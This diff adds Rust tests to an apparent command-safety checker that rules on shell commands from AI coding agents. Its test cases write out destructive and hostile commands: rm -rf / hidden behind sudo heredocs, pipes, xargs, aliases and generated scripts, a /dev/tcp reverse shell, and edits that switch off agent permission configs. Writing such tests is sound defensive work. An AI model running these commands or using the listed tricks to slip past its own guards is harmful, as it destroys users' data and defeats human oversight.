@@ -416,3 +416,147 @@ fn analysis_lists_the_commands_it_found() {
             .complete
     );
 }
+
+#[test]
+fn programs_fed_on_standard_input_are_analysed() {
+    // a script given to a root shell on standard input runs like `sudo bash -c SCRIPT`
+    for cmd in [
+        "sudo -s <<END\nrm -rf /\nEND",
+        "sudo -i <<< 'rm -rf /'",
+        "echo 'rm -rf /' | su",
+        "printf 'reboot\\n' | sudo -s",
+        "echo reboot | doas -s",
+        "cat <<END | sudo bash\nrm -rf /\nEND",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    // the indirection itself goes to the reviewer, the harmless program does not deny
+    let a = analyse("echo ls | bash");
+    assert_eq!(a.decision, Decision::Ask, "{a:?}");
+    assert_eq!(a.tier, Tier::Low, "{a:?}");
+    assert_eq!(decision("echo \"$CMD\" | bash"), Decision::Ask);
+    assert_eq!(decision("su --help"), Decision::Allow);
+}
+
+#[test]
+fn duplicating_output_to_a_file_is_a_write() {
+    assert_eq!(
+        decision("bash -i >& /dev/tcp/198.51.100.9/9001 0>&1"),
+        Decision::Deny
+    );
+    assert_eq!(decision("make >& ~/.bashrc"), Decision::Ask);
+    for cmd in [
+        "make >& build.log",
+        "ls 1>&2",
+        "echo x >&-",
+        "cmd 2>&1 >&3-",
+    ] {
+        assert_eq!(decision(cmd), Decision::Allow, "{cmd}");
+    }
+}
+
+#[test]
+fn interpreter_options_with_attached_values_do_not_hide_the_code() {
+    for cmd in [
+        "perl -MLWP::Simple -e 'system(\"rm -rf /\")'",
+        "perl -Ilib -Mstrict -e 'unlink(\"/etc/passwd\")'",
+        "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    assert_eq!(decision("python3 -mhttp.server"), Decision::Allow);
+}
+
+#[test]
+fn constant_echo_substitutions_are_resolved() {
+    assert_eq!(decision("$(echo rm) -rf /"), Decision::Deny);
+    assert_eq!(decision("`echo rm` -rf /"), Decision::Deny);
+    let a = analyse("$(echo ls)");
+    assert_eq!(a.decision, Decision::Allow, "{a:?}");
+    assert!(codes("$(cat cmd.txt) x").contains(&ReasonCode::DynamicCode));
+}
+
+#[test]
+fn in_place_edits_and_agent_home_variables_are_judged_as_writes() {
+    for cmd in [
+        "sed -i 's/allow/deny/' ~/.codex/config.toml",
+        "sed -i.orig -e 's/x/y/' $HERMES_HOME/config.yaml",
+        "echo 'hooks: []' | tee ${CLAUDE_CONFIG_DIR}/settings.json",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    assert_eq!(decision("sed -i 's/a/b/' src/main.rs"), Decision::Allow);
+    assert_eq!(
+        decision("sed 's/a/b/' ~/.codex/config.toml"),
+        Decision::Allow
+    );
+}
+
+#[test]
+fn bare_assignments_reach_the_rules() {
+    assert_eq!(
+        decision("API_TOKEN=f3a9c1e7b5d2a8c4e6f0 ./deploy.sh"),
+        Decision::Ask
+    );
+    assert_eq!(decision("LOG_LEVEL=debug cargo run"), Decision::Allow);
+}
+
+#[test]
+fn literal_input_to_xargs_is_analysed() {
+    for cmd in [
+        "echo / | xargs rm -rf",
+        "printf '%s\\n' /etc /usr | xargs -I{} rm -rf {}",
+        "echo /home | xargs -n1 sudo rm -rf",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    assert_eq!(decision("echo build dist | xargs rm -rf"), Decision::Allow);
+    assert_eq!(
+        decision("echo a.txt | xargs -I {} cp {} backup/"),
+        Decision::Allow
+    );
+}
+
+#[test]
+fn constant_ifs_splits_unquoted_expansions() {
+    assert_eq!(decision("IFS=,; c=rm,-rf,/; $c"), Decision::Deny);
+    assert_eq!(decision("IFS=,; c=a,b; echo \"$c\""), Decision::Allow);
+}
+
+#[test]
+fn moving_a_sensitive_path_away_is_a_write_to_it() {
+    assert!(decision("mv ~/.ssh /tmp/old-keys") >= Decision::Ask);
+    assert!(decision("mv /etc /tmp/etc") >= Decision::Ask);
+    assert_eq!(decision("mv src/old.rs src/new.rs"), Decision::Allow);
+}
+
+#[test]
+fn literal_programs_given_as_files_are_analysed() {
+    for cmd in [
+        "bash <(echo 'rm -rf /')",
+        "source <(printf 'reboot\\n')",
+        ". /dev/stdin <<< 'rm -rf /'",
+        "echo reboot | bash /dev/stdin",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    assert_eq!(decision("diff <(echo a) <(echo b)"), Decision::Allow);
+    assert_eq!(decision("alias x='rm -rf /'; x"), Decision::Deny);
+    assert_eq!(decision("alias ll='ls -la'"), Decision::Allow);
+}
+
+#[test]
+fn scripts_written_and_run_in_the_same_line_are_analysed() {
+    for cmd in [
+        "echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh",
+        "printf 'reboot\\n' > go.sh; chmod +x go.sh; ./go.sh",
+        "tee run.sh <<< 'rm -rf ~' >/dev/null && sh ./run.sh",
+        "cat > c.py <<EOF\nimport os\nos.system('rm -rf /')\nEOF\npython3 c.py",
+    ] {
+        assert_eq!(decision(cmd), Decision::Deny, "{cmd}");
+    }
+    assert_eq!(
+        decision("echo 'make test' > ci.sh && bash ci.sh"),
+        Decision::Allow
+    );
+}
